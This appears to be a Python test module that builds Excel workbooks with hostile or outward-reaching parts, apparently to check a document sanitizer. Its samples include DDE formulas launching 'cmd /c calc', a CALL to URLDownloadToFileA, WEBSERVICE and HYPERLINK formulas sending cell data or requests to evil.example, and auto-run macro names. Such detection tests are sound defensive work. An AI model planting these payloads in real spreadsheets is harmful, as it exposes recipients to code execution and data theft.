"""Workbooks and slides that would run, fetch or start something, each with what becomes of it."""

from __future__ import annotations

import io
from collections.abc import Mapping
from functools import cache

from openpyxl import Workbook

from forum.papers.papers import Remark
from tests.tasks.documents.office.hostile_word import BIN, CONTROLS, DDE, MACROS, OLE, VBA, Case, R
from tests.tasks.documents.office.office_parts import MICROSOFT, TYPES, related, replaced

BOOK, SHEET = "xl/workbook.xml", "xl/worksheets/sheet1.xml"
DATA = "data from elsewhere inside"
_X = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_S = "application/vnd.openxmlformats-officedocument.spreadsheetml."


@cache
def book() -> bytes:
    workbook = Workbook()
    sheet = workbook.worksheets[0]
    sheet["A1"], sheet["A2"] = "Figures", 7
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def formula(text: str) -> bytes:
    """The workbook with a cell whose formula is this, and whose value is 42."""
    cell = f'<row r="9"><c r="A9"><f>{text}</f><v>42</v></c></row></sheetData>'
    return replaced(book(), SHEET, b"</sheetData>", cell.encode())


def named(attributes: str, text: str = "Sheet!$A$1") -> bytes:
    name = f"<definedNames><definedName {attributes}>{text}</definedName></definedNames>"
    return replaced(book(), BOOK, b"<calcPr", name.encode() + b"<calcPr")


def behind(xml: bytes, content: bytes | None = None) -> bytes:
    """The workbook with this behind the cells of its sheet."""
    return replaced(content or book(), SHEET, b"</sheetData>", b"</sheetData>" + xml)


def link_part(inner: str, target: str = "file:///C:/Users/jane/other.xlsx") -> bytes:
    """The workbook with a link to another, and a cell that takes its value from there."""
    content = related(
        formula("[1]Sheet1!A1*2"), BOOK, "externalLink", "externalLinks/externalLink1.xml",
        part=f'<externalLink xmlns="{_X}">{inner}</externalLink>'.encode(),
        content_type=f"{_S}externalLink+xml",
    )  # fmt: skip
    content = replaced(
        content,
        BOOK,
        b"<calcPr",
        b'<externalReferences><externalReference %s r:id="rId99"/></externalReferences><calcPr' % R,
    )
    return related(content, "xl/externalLinks/externalLink1.xml", "externalLinkPath", target, id="rId1")


def held(kind: str, target: str, content_type: str, part: bytes = b"<x/>", source: str = BOOK) -> bytes:
    return related(book(), source, kind, target, part=part, content_type=content_type)


SHEETS: Mapping[str, Case] = {
    # Other programs
    "a DDE link": (lambda: link_part('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'), DDE),
    "a DDE formula of LibreOffice": (lambda: formula('DDE("cmd","/c calc","x")'), DDE),
    "a DDE formula": (lambda: formula("cmd|'/c calc'!A1"), DDE),
    "a DDE formula in quotes": (lambda: formula("'cmd'|'/c calc'!A1"), DDE),
    "a DDE formula in a sum": (lambda: formula("1+MSEXCEL|'\\..\\cmd.exe /c calc'!''"), DDE),
    "a DDE formula as a name": (lambda: named('name="x"', "cmd|'/c calc'!A1"), DDE),
    "a DDE formula in a validation": (
        lambda: behind(
            b"<dataValidations><dataValidation sqref=\"A1\"><formula1>cmd|'/c calc'!A1</formula1>"
            b"</dataValidation></dataValidations>"
        ),
        DDE,
    ),
    "an OLE link": (lambda: link_part('<oleLink progId="Excel.Sheet"/>'), Remark.LINKED),
    "RTD": (lambda: formula("RTD(&quot;prog&quot;,,&quot;x&quot;)"), Remark.LINKED),
    "CALL": (
        lambda: formula("CALL(&quot;urlmon&quot;,&quot;URLDownloadToFileA&quot;,&quot;J&quot;)"),
        Remark.LINKED,
    ),
    # Macros
    "macros": (lambda: held(f"{MICROSOFT}2006/relationships/vbaProject", "vbaProject.bin", VBA, OLE), MACROS),
    "macros under another name": (
        lambda: held(f"{MICROSOFT}2006/relationships/vbaProject", "styles9.xml", "application/xml", OLE),
        MACROS,
    ),
    "a workbook that calls itself one with macros": (
        lambda: replaced(
            book(),
            TYPES,
            b"openxmlformats-officedocument.spreadsheetml.sheet.main",
            b"ms-excel.sheet.macroEnabled.main",
        ),
        MACROS,
    ),
    "a sheet of Excel 4 macros": (
        lambda: held(
            f"{MICROSOFT}2006/relationships/xlMacrosheet",
            "macrosheets/sheet1.xml",
            "application/vnd.ms-excel.macrosheet+xml",
        ),
        MACROS,
    ),
    "a sheet of macros called a worksheet": (
        lambda: held(
            "worksheet",
            "worksheets/sheet9.xml",
            f"{_S}worksheet+xml",
            b'<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>',
        ),
        MACROS,
    ),
    "a sheet of macros by its type": (
        lambda: held("worksheet", "worksheets/sheet9.xml", "application/vnd.ms-excel.intlmacrosheet+xml"),
        MACROS,
    ),
    "a dialog sheet": (
        lambda: held("dialogsheet", "dialogsheets/sheet1.xml", f"{_S}dialogsheet+xml"),
        MACROS,
    ),
    "a macro that runs on opening": (lambda: named('name="_xlnm.Auto_Open"'), MACROS),
    "a name that is a macro": (lambda: named('name="x" xlm="1" hidden="1"'), MACROS),
    "a macro of Visual Basic as a name": (lambda: named('name="x" vbProcedure="1"'), MACROS),
    "a button with a macro": (
        lambda: held(
            "drawing",
            "../drawings/d1.xml",
            "application/vnd.openxmlformats-officedocument.drawing+xml",
            b'<d xmlns="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"><sp '
            b'macro="[1]!Run"/></d>',
            SHEET,
        ),
        Remark.ACTIONS,
    ),
    "a macro in an old drawing": (
        lambda: held(
            "vmlDrawing",
            "../drawings/v.vml",
            "application/vnd.openxmlformats-officedocument.vmlDrawing",
            b'<xml xmlns:x="urn:schemas-microsoft-com:office:excel"><x:ClientData><x:FmlaMacro>Run'
            b"</x:FmlaMacro></x:ClientData></xml>",
            SHEET,
        ),
        Remark.ACTIONS,
    ),
    "an ActiveX control": (
        lambda: held("control", "../activeX/a.xml", "application/vnd.ms-office.activeX+xml", source=SHEET),
        CONTROLS,
    ),
    "buttons of its own": (
        lambda: held(
            f"{MICROSOFT}2006/relationships/ui/extensibility",
            "customUI/customUI.xml",
            "application/xml",
            b'<customUI onLoad="Run"/>',
            "",
        ),
        Remark.ACTIONS,
    ),
    "a web extension": (
        lambda: held(
            f"{MICROSOFT}2011/relationships/webextension",
            "we/w.xml",
            "application/vnd.ms-office.webextension+xml",
            source="",
        ),
        Remark.ACTIONS,
    ),
    # Figures from elsewhere
    "a link to another workbook": (lambda: link_part("<externalBook/>"), Remark.LINKED),
    "a link to a workbook on the web": (
        lambda: link_part("<externalBook/>", "https://evil.example/a.xlsx"),
        Remark.LINKED,
    ),
    "a formula with a path": (lambda: formula("'C:\\Users\\jane\\[a.xlsx]Sheet'!A1"), Remark.LINKED),
    "connections": (
        lambda: held(
            "connections",
            "connections.xml",
            f"{_S}connections+xml",
            b'<connections><connection><dbPr connection="Password=x"/></connection></connections>',
        ),
        Remark.LINKED,
    ),
    "a query": (
        lambda: held("queryTable", "../queryTables/q.xml", f"{_S}queryTable+xml", source=SHEET),
        Remark.LINKED,
    ),
    "a data model": (
        lambda: held(
            f"{MICROSOFT}2011/relationships/powerPivotData",
            "model/item.data",
            "application/vnd.openxmlformats-officedocument.model+data",
            b"x",
        ),
        DATA,
    ),
    "a pivot table of data from elsewhere": (
        lambda: held(
            "pivotCacheDefinition",
            "pivotCache/p.xml",
            f"{_S}pivotCacheDefinition+xml",
            f'<pivotCacheDefinition xmlns="{_X}"><cacheSource '
            f'type="external"/></pivotCacheDefinition>'.encode(),
        ),
        DATA,
    ),
    "data kept up to date": (
        lambda: held("volatileDependencies", "v.xml", f"{_S}volatileDependencies+xml"),
        Remark.LINKED,
    ),
    "WEBSERVICE": (
        lambda: formula("_xlfn.WEBSERVICE(&quot;https://evil.example/&quot;&amp;A1)"),
        Remark.LINKED,
    ),
    "IMAGE": (lambda: formula("_xlfn.IMAGE(&quot;https://evil.example/a.png&quot;)"), Remark.LINKED),
    "IMPORTCSV": (lambda: formula("_xlfn.IMPORTCSV(&quot;https://evil.example/a&quot;)"), Remark.LINKED),
    "IMPORTTEXT": (lambda: formula("_xlfn.IMPORTTEXT(A1)"), Remark.LINKED),
    "a formula that sends its cells to a service": (
        lambda: formula("_xlfn.COPILOT(&quot;sum up&quot;,A1)"),
        Remark.LINKED,
    ),
    "Python that runs elsewhere": (lambda: formula("_xlfn._xlws.PY(0,0,A1)"), Remark.LINKED),
    "a formula that fetches, shared": (
        lambda: replaced(
            book(),
            SHEET,
            b"</sheetData>",
            b'<row r="9"><c r="A9"><f t="shared" ref="A9:B9" si="0">_xlfn.WEBSERVICE(A1)</f><v>1</v></c>'
            b'<c r="B9"><f t="shared" si="0"/><v>2</v></c></row></sheetData>',
        ),
        Remark.LINKED,
    ),
    "a linked picture": (
        lambda: related(
            held(
                "drawing",
                "../drawings/d1.xml",
                "application/vnd.openxmlformats-officedocument.drawing+xml",
                b'<d xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:blip %s '
                b'r:link="rId99"/></d>' % R,
                SHEET,
            ),
            "xl/drawings/d1.xml",
            "image",
            "https://evil.example/a.png",
        ),
        Remark.LINKED,
    ),
    "a map of XML from elsewhere": (
        lambda: held(
            "xmlMaps",
            "xmlMaps.xml",
            "application/xml",
            b'<MapInfo><Map><DataBinding ConnectionID="1"/></Map></MapInfo>',
        ),
        Remark.LINKED,
    ),
    # Objects and links
    "an object": (
        lambda: related(
            behind(b'<oleObjects><oleObject progId="Package" %s r:id="rId99"/></oleObjects>' % R),
            SHEET,
            "oleObject",
            "../media/o.png",
            part=OLE,
            content_type="image/png",
        ),
        Remark.OBJECTS,
    ),
    "an object by its own type": (
        lambda: held("oleObject", "embeddings/o.bin", BIN, OLE, SHEET),
        Remark.OBJECTS,
    ),
    "a link to a program": (
        lambda: related(
            behind(b'<hyperlinks><hyperlink ref="A1" %s r:id="rId99"/></hyperlinks>' % R),
            SHEET,
            "hyperlink",
            "file:///c:/windows/calc.exe",
        ),
        Remark.LINKS,
    ),
    "a HYPERLINK to a share": (
        lambda: formula(r"HYPERLINK(&quot;\\evil.example\x&quot;,&quot;go&quot;)"),
        Remark.LINKS,
    ),
    "a HYPERLINK behind another": (
        lambda: formula(
            "IF(A1,HYPERLINK(&quot;#A1&quot;),HYPERLINK(&quot;\\\\evil.example\\x&quot;,&quot;go&quot;))"
        ),
        Remark.LINKS,
    ),
    "a HYPERLINK of pieces": (
        lambda: formula("HYPERLINK(&quot;&quot;&amp;A1,&quot;go&quot;)"),
        Remark.LINKS,
    ),
    "a HYPERLINK that a formula gives": (
        lambda: formula("HYPERLINK(IF(A1,&quot;file:///c:/windows/calc.exe&quot;))"),
        Remark.LINKS,
    ),
    "settings of a printer, and where it was kept": (
        lambda: related(
            formula("HYPERLINK(&quot;file:///x&quot;)"),
            SHEET,
            "printerSettings",
            "../p.bin",
            part=b"\\\\srv\\jane",
            content_type=f"{_S}printerSettings",
        ),
        Remark.LINKS,
    ),
}
